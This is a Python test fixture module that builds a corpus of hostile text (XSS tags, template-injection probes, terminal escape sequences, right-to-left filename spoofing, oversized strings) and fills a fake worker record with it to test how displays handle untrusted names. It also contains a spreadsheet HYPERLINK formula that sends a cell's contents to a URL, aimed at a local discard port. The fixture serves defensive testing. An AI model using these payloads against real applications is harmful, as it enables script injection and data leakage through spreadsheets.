"""Text that nobody should have to look at: what tasks and workers may call themselves."""

from gator_nb.backends.base import Presence

MARKUP = "<img src=x onerror=alert(1)><script>alert(2)</script><b>bold</b>"
FORMULA = '=HYPERLINK("http://127.0.0.1:9/?"&A1,"look")'

CORPUS = {
    "markup": MARKUP,
    "closing": "\"'></style></textarea></title><svg/onload=alert(3)>",
    "template": "{{7*7}} ${alert(4)} `x` %s javascript:alert(5)",
    "terminal": "\x1b[31mred\x1b[0m\x1b]0;title\x07\x1b[2J\x1b]8;;http://127.0.0.1:9\x07link",
    "control": "a\x00b\x08\x7f\x85c\r\nd\te",
    "direction": "\u202egpj.exe\u2066\u200f\u2028line\u2029\ufeffend",
    "marks": "Z" + "\u0301" * 500,
    "formula": FORMULA,
    "megabyte": "M" * 1_000_000,
}
"""By what is odd about it."""


def hostile_worker(number: int, text: str) -> Presence:
    """A worker that says this wherever it may say something."""
    return Presence(
        f"hostile{number}", "worker", name=text, host=text, python=text, lease=1e9,
        queues=(text,), lanes=(text,), slots=2, has=text,
    )  # fmt: skip
